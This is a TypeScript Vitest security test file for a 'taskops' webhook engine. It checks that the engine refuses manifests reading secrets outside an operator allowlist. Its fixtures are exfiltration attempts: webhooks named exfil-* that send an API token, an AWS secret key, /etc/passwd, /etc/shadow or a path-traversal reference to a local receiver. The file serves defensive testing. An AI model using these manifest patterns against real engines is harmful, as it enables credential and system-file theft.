import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import type { Kind, ObjectMetadata } from '../../src/manifest/types.js';
import { contentHash } from '../../src/store/hash.js';
import { secretPolicy } from '../../src/manifest/index.js';
import { buildServer, Metrics, type SyncController } from '../../src/server/index.js';
import { openStore } from '../../src/store/index.js';
import { runCli } from '../helpers/cli.js';
import { doc, docs, engineFixture, type EngineFixture } from '../helpers/engine.js';
import { startReceiver, type Receiver } from '../helpers/http-receiver.js';
import { startSmtpPeer, type SmtpPeer } from '../helpers/smtp-peer.js';

/**
 * The attacker can commit to the manifests repo and runs a receiver (here on 127.0.0.1). The operator
 * allows one token and one folder of secret files; everything else must stay on the engine's machine.
 */
const OPERATOR_SECRETS = { env: ['SLACK_BOT_TOKEN', 'MONITORING_*'], files: ['/run/secrets/taskops/*'] };

/** What the engine's environment holds: the attacker wants any of these values. */
const ENGINE_ENV = {
  TASKOPS_API_TOKEN: 'api-token-value-1234',
  AWS_SECRET_ACCESS_KEY: 'aws-secret-value-5678',
  SLACK_BOT_TOKEN: 'slack-token-value',
};

/** The three exfiltration attempts, each a Webhook with its secret reference on line 9. */
const attack = (name: string, url: string, auth: string) =>
  [
    'apiVersion: taskops/v1',
    'kind: Webhook',
    'metadata:',
    `  name: ${name}`,
    'spec:',
    `  url: ${url}`,
    '  retries: 0',
    '  auth:',
    auth,
    '',
  ].join('\n');

const ATTACKS = (url: string): Record<string, string> => ({
  'token.yaml': attack('exfil-token', url, '    {type: bearer, tokenFrom: {env: TASKOPS_API_TOKEN}}'),
  'apikey.yaml': attack(
    'exfil-apikey',
    url,
    '    {type: apiKey, apiKey: {header: X-Key, valueFrom: {env: AWS_SECRET_ACCESS_KEY}}}',
  ),
  'password.yaml': attack(
    'exfil-password',
    url,
    '    {type: basic, username: me, passwordFrom: {file: /etc/passwd}}',
  ),
  'escape.yaml': attack(
    'exfil-escape',
    url,
    '    {type: basic, username: me, passwordFrom: {file: /run/secrets/taskops/../../../etc/passwd}}',
  ),
  'tasks.yaml': docs(
    ...['token', 'apikey', 'password', 'escape'].map((w) =>
      doc('Task', `send-${w}`, {
        objectType: 'webhook',
        target: { name: `exfil-${w}` },
        action: 'send',
        params: { payload: '{"hello": "${NAME}"}' },
      }),
    ),
  ),
});

function tempDir(prefix: string): string {
  return mkdtempSync(path.join(tmpdir(), `taskops-sec-${prefix}-`));
}

function writeFiles(dir: string, files: Record<string, string>): string {
  mkdirSync(dir, { recursive: true });
  for (const [name, text] of Object.entries(files)) writeFileSync(path.join(dir, name), text);
  return dir;
}

function operatorConfig(dir: string, secrets: unknown = OPERATOR_SECRETS): string {
  const file = path.join(dir, 'taskops.config.yaml');
  writeFileSync(file, JSON.stringify({ secrets }));
  return file;
}

const cleanup: Array<() => Promise<void>> = [];
afterEach(async () => {
  for (const fn of cleanup.splice(0)) await fn();
});

async function receiver(): Promise<Receiver> {
  const r = await startReceiver();
  cleanup.push(() => r.close());
  return r;
}

async function fixture(opts: Parameters<typeof engineFixture>[0]): Promise<EngineFixture> {
  const f = await engineFixture(opts);
  cleanup.push(() => f.close());
  return f;
}

describe('a committer cannot read secrets the operator did not allow: validate', () => {
  it('refuses each reference outside the allowlist at its file:line:col, saying what to ask for', async () => {
    const dir = tempDir('validate');
    const manifests = writeFiles(path.join(dir, 'm'), ATTACKS('http://127.0.0.1:9/x'));
    const result = await runCli(['--config', operatorConfig(dir), 'validate', manifests], { cwd: dir });
    expect(result.code).toBe(1);
    const at = (file: string) => path.join(manifests, file);
    expect(result.stdout).toContain(
      `${at('apikey.yaml')}:9:61: Webhook/exfil-apikey: {env: AWS_SECRET_ACCESS_KEY} is not allowed by the engine's secrets allowlist; ask the operator to add AWS_SECRET_ACCESS_KEY to secrets.env in taskops.config.yaml`,
    );
    expect(result.stdout).toContain(
      `${at('token.yaml')}:9:37: Webhook/exfil-token: {env: TASKOPS_API_TOKEN} is one of the engine's own settings (TASKOPS_*), which no manifest may read, whatever the allowlist says`,
    );
    expect(result.stdout).toContain(
      `${at('password.yaml')}:9:54: Webhook/exfil-password: {file: /etc/passwd} is not allowed by the engine's secrets allowlist; ask the operator to add /etc/passwd to secrets.files in taskops.config.yaml`,
    );
    expect(result.stdout).toContain(
      `${at('escape.yaml')}:9:54: Webhook/exfil-escape: {file: /run/secrets/taskops/../../../etc/passwd} is not a plain absolute path (no . or .. segments, no doubled slashes); it would name /etc/passwd`,
    );
    expect(result.stdout).toContain('4 errors in 4 files');
  });

  it('never allows TASKOPS_* even when the operator allows every variable', async () => {
    const dir = tempDir('star');
    const manifests = writeFiles(path.join(dir, 'm'), {
      'token.yaml': attack(
        'exfil-token',
        'http://127.0.0.1:9/x',
        '    {type: bearer, tokenFrom: {env: TASKOPS_API_TOKEN}}',
      ),
    });
    const config = operatorConfig(dir, { env: ['*'], files: ['/**'] });
    const result = await runCli(['--config', config, 'validate', manifests], { cwd: dir });
    expect(result.code).toBe(1);
    expect(result.stdout).toContain(
      "{env: TASKOPS_API_TOKEN} is one of the engine's own settings (TASKOPS_*)",
    );
  });

  it('without an engine config (a pull request CI), notes every reference as unchecked, not as an error', async () => {
    const dir = tempDir('noconfig');
    const manifests = writeFiles(path.join(dir, 'm'), ATTACKS('http://127.0.0.1:9/x'));
    const result = await runCli(['validate', manifests], { cwd: dir, env: { TASKOPS_CONFIG: undefined } });
    expect(result.code).toBe(0);
    expect(result.stdout).toContain(
      `${path.join(manifests, 'apikey.yaml')}:9:61: Webhook/exfil-apikey: {env: AWS_SECRET_ACCESS_KEY} unchecked without an engine config (--config): the engine's secrets allowlist decides whether it may be read (note)`,
    );
    expect(result.stdout).toContain('{env: TASKOPS_API_TOKEN} unchecked without an engine config');
    expect(result.stdout).toContain('{file: /etc/passwd} unchecked without an engine config');
  });

  it('reconcile with the engine config applies nothing', async () => {
    const dir = tempDir('reconcile');
    const manifests = writeFiles(path.join(dir, 'm'), ATTACKS('http://127.0.0.1:9/x'));
    const dataDir = path.join(dir, 'data');
    const result = await runCli(
      ['--config', operatorConfig(dir), '--data-dir', dataDir, 'reconcile', manifests],
      { cwd: dir },
    );
    expect(result.code).toBe(1);
    expect(result.stderr).toContain(
      "{env: AWS_SECRET_ACCESS_KEY} is not allowed by the engine's secrets allowlist",
    );
    const store = await openStore(dataDir);
    try {
      expect(await store.listObjects()).toEqual([]);
    } finally {
      await store.close();
    }
  });
});

describe('a committer cannot read secrets the operator did not allow: the engine at run time', () => {
  /** The attack objects written straight into the store, as a hand edit or another version could. */
  async function writeStraightIntoStore(f: EngineFixture, url: string) {
    const objects: Array<{ kind: Kind; name: string; spec: Record<string, unknown> }> = [
      {
        kind: 'Webhook',
        name: 'exfil-token',
        spec: { url, retries: 0, auth: { type: 'bearer', tokenFrom: { env: 'TASKOPS_API_TOKEN' } } },
      },
      {
        kind: 'Webhook',
        name: 'exfil-apikey',
        spec: {
          url,
          retries: 0,
          auth: { type: 'apiKey', apiKey: { header: 'X-Key', valueFrom: { env: 'AWS_SECRET_ACCESS_KEY' } } },
        },
      },
      {
        kind: 'Webhook',
        name: 'exfil-password',
        spec: {
          url,
          retries: 0,
          auth: { type: 'basic', username: 'me', passwordFrom: { file: '/etc/passwd' } },
        },
      },
      {
        kind: 'Webhook',
        name: 'exfil-escape',
        spec: {
          url,
          retries: 0,
          auth: {
            type: 'basic',
            username: 'me',
            passwordFrom: { file: '/run/secrets/taskops/../../../etc/passwd' },
          },
        },
      },
      // Another version's shape: a reference that names both, or a URL read from a secret file.
      {
        kind: 'Webhook',
        name: 'exfil-both',
        spec: {
          url,
          retries: 0,
          auth: { type: 'bearer', tokenFrom: { env: 'SLACK_BOT_TOKEN', file: '/etc/shadow' } },
        },
      },
      { kind: 'Webhook', name: 'exfil-url', spec: { urlFrom: { env: 'AWS_SECRET_ACCESS_KEY' }, retries: 0 } },
    ];
    for (const w of ['token', 'apikey', 'password', 'escape', 'both', 'url']) {
      objects.push({
        kind: 'Task',
        name: `send-${w}`,
        spec: {
          objectType: 'webhook',
          target: { name: `exfil-${w}` },
          action: 'send',
          params: { payload: '{"a": "b"}' },
        },
      });
    }
    await f.store.applyWrites(
      objects.map((o) => {
        const metadata: ObjectMetadata = { name: o.name, labels: {} };
        return {
          action: 'create' as const,
          object: {
            kind: o.kind,
            name: o.name,
            metadata,
            spec: o.spec as never,
            hash: contentHash(metadata, o.spec),
          },
        };
      }),
      'hand-written',
      f.clock.now(),
    );
    await f.engine.reload();
  }

  it('fails every run with a clear error naming the reference, and the receiver gets nothing', async () => {
    const peer = await receiver();
    const f = await fixture({
      manifests: {},
      config: { secrets: OPERATOR_SECRETS },
      driverDeps: { env: { ...ENGINE_ENV } },
    });
    await writeStraightIntoStore(f, peer.url);
    const errors: Record<string, string | null> = {};
    for (const w of ['token', 'apikey', 'password', 'escape', 'both', 'url']) {
      const [run] = await f.engine.runTask(`send-${w}`);
      await f.engine.whenIdle();
      const done = await f.store.getRun(run!.runId);
      expect(done?.status).toBe('failed');
      errors[w] = done?.error ?? null;
    }
    expect(peer.requests).toEqual([]);
    expect(errors.apikey).toContain(
      "webhook exfil-apikey: secret {env: AWS_SECRET_ACCESS_KEY} is not allowed by the engine's secrets allowlist; ask the operator to add AWS_SECRET_ACCESS_KEY to secrets.env in taskops.config.yaml",
    );
    expect(errors.token).toContain("secret {env: TASKOPS_API_TOKEN} is one of the engine's own settings");
    expect(errors.password).toContain(
      "secret {file: /etc/passwd} is not allowed by the engine's secrets allowlist",
    );
    expect(errors.escape).toContain('is not a plain absolute path');
    expect(errors.both).toContain('names both env and file');
    expect(errors.url).toContain('secret {env: AWS_SECRET_ACCESS_KEY} is not allowed');
    const text = JSON.stringify(errors);
    for (const value of Object.values(ENGINE_ENV)) expect(text).not.toContain(value);
  });

  it('refuses at run time what a reconcile without a config let through (notes only)', async () => {
    const peer = await receiver();
    const dir = tempDir('noconfig-run');
    const manifests = writeFiles(path.join(dir, 'm'), ATTACKS(peer.url));
    const dataDir = path.join(dir, 'data');
    const applied = await runCli(['--data-dir', dataDir, 'reconcile', manifests], {
      cwd: dir,
      env: { TASKOPS_CONFIG: undefined },
    });
    expect(applied.code).toBe(0);
    const result = await runCli(
      ['--config', operatorConfig(dir), '--data-dir', dataDir, 'run', 'send-apikey'],
      { cwd: dir, env: { AWS_SECRET_ACCESS_KEY: ENGINE_ENV.AWS_SECRET_ACCESS_KEY } },
    );
    expect(result.code).toBe(1);
    expect(result.stdout + result.stderr).toContain(
      "secret {env: AWS_SECRET_ACCESS_KEY} is not allowed by the engine's secrets allowlist",
    );
    expect(peer.requests).toEqual([]);
  });

  it('still delivers with a reference the operator allowed', async () => {
    const peer = await receiver();
    const f = await fixture({
      config: { secrets: OPERATOR_SECRETS },
      driverDeps: { env: { ...ENGINE_ENV } },
      manifests: {
        'm.yaml': docs(
          doc('Webhook', 'slack', {
            url: peer.url,
            auth: { type: 'bearer', tokenFrom: { env: 'SLACK_BOT_TOKEN' } },
          }),
          doc('Task', 'notify', {
            objectType: 'webhook',
            target: { name: 'slack' },
            action: 'send',
            params: { payload: '{}' },
          }),
        ),
      },
    });
    const [run] = await f.engine.runTask('notify');
    await f.engine.whenIdle();
    expect((await f.store.getRun(run!.runId))?.status).toBe('succeeded');
    expect(peer.requests[0]?.headers.authorization).toBe('Bearer slack-token-value');
  });

  it("leaves the operator's own SMTP passwordFrom outside the allowlist", async () => {
    const smtp: SmtpPeer = await startSmtpPeer({ users: { mailer: 'smtp-pw' } });
    cleanup.push(() => smtp.close());
    const f = await fixture({
      config: {
        smtp: {
          url: `smtp://mailer@127.0.0.1:${smtp.port}`,
          from: 'taskops@example.com',
          passwordFrom: { env: 'TASKOPS_SMTP_PASSWORD' },
        },
      },
      driverDeps: { env: { TASKOPS_SMTP_PASSWORD: 'smtp-pw' } },
      manifests: {
        'm.yaml': doc('Task', 'mail', {
          objectType: 'email',
          action: 'send',
          params: { to: 'a@example.com', subject: 's', body: 'b' },
        }),
      },
    });
    const [run] = await f.engine.runTask('mail');
    await f.engine.whenIdle();
    expect((await f.store.getRun(run!.runId))?.status).toBe('succeeded');
    expect(smtp.messages[0]?.user).toBe('mailer');
  });
});

describe('a client of the API cannot make an object that reads a secret outside the allowlist', () => {
  it('refuses the PUT with 400 and the same message, and stores nothing', async () => {
    const f = await fixture({ manifests: {}, config: { secrets: OPERATOR_SECRETS } });
    const sync = { status: () => ({}), syncNow: async () => ({}) } as unknown as SyncController;
    const app = buildServer({
      engine: f.engine,
      store: f.store,
      metrics: new Metrics(),
      sync,
      defaultZone: 'UTC',
      secretPolicy: secretPolicy(OPERATOR_SECRETS),
      apiToken: 'tok',
    });
    cleanup.push(() => app.close());
    const put = await app.inject({
      method: 'PUT',
      url: '/api/v1/objects/Webhook/exfil',
      headers: { authorization: 'Bearer tok', 'content-type': 'application/json' },
      payload: {
        spec: {
          url: 'http://127.0.0.1:9/x',
          auth: { type: 'apiKey', apiKey: { valueFrom: { env: 'AWS_SECRET_ACCESS_KEY' } } },
        },
      },
    });
    expect(put.statusCode).toBe(400);
    expect(put.json()).toMatchObject({
      problems: [
        "spec.auth.apiKey.valueFrom.env: {env: AWS_SECRET_ACCESS_KEY} is not allowed by the engine's secrets allowlist; ask the operator to add AWS_SECRET_ACCESS_KEY to secrets.env in taskops.config.yaml",
      ],
    });
    expect(await f.store.getObject('Webhook', 'exfil')).toBeUndefined();
  });
});

describe('signing secrets without usable key material are refused before anything is sent', () => {
  const key32 = Buffer.alloc(32, 7).toString('base64');
  /** Task notify sending to Webhook signed, whose signing secret is {env: HOOK_SIGNING_SECRET} = `secret`. */
  async function signedWebhook(secret: string): Promise<{ peer: Receiver; f: EngineFixture }> {
    const peer = await receiver();
    const f = await fixture({
      config: { secrets: { env: ['HOOK_SIGNING_SECRET'] } },
      driverDeps: { env: { HOOK_SIGNING_SECRET: secret } },
      manifests: {
        'm.yaml': docs(
          doc('Webhook', 'signed', {
            url: peer.url,
            retries: 0,
            signingSecretFrom: { env: 'HOOK_SIGNING_SECRET' },
          }),
          doc('Task', 'notify', {
            objectType: 'webhook',
            target: { name: 'signed' },
            action: 'send',
            params: { payload: '{}' },
          }),
        ),
      },
    });
    return { peer, f };
  }
  it.each([
    ['a bare whsec_ prefix', 'whsec_', 'has no key material after whsec_'],
    ['whsec_ with text that is not base64', 'whsec_not*base64!', 'is not valid base64 after whsec_'],
    [
      'whsec_ with base64 that is not padded right',
      `whsec_${key32.slice(0, -1)}`,
      'is not valid base64 after whsec_',
    ],
    [
      'a whsec_ key under 24 bytes',
      `whsec_${Buffer.alloc(16, 1).toString('base64')}`,
      'is shorter than 24 bytes of key',
    ],
    ['a raw secret under 24 bytes', 'short-raw-secret', 'is shorter than 24 bytes of key'],
  ])('%s', async (_label, value, reason) => {
    const { peer, f } = await signedWebhook(value);
    const [run] = await f.engine.runTask('notify');
    await f.engine.whenIdle();
    const done = await f.store.getRun(run!.runId);
    expect(done?.status).toBe('failed');
    expect(done?.error).toContain(`webhook signed: secret {env: HOOK_SIGNING_SECRET} ${reason}`);
    if (value.length > 'whsec_'.length) expect(done?.error).not.toContain(value);
    expect(peer.requests).toEqual([]);
  });

  it('signs with a whsec_ key of 32 bytes', async () => {
    const { peer, f } = await signedWebhook(`whsec_${key32}`);
    const [run] = await f.engine.runTask('notify');
    await f.engine.whenIdle();
    expect((await f.store.getRun(run!.runId))?.status).toBe('succeeded');
    expect(peer.requests[0]?.headers['webhook-signature']).toMatch(/^v1,/);
  });
});
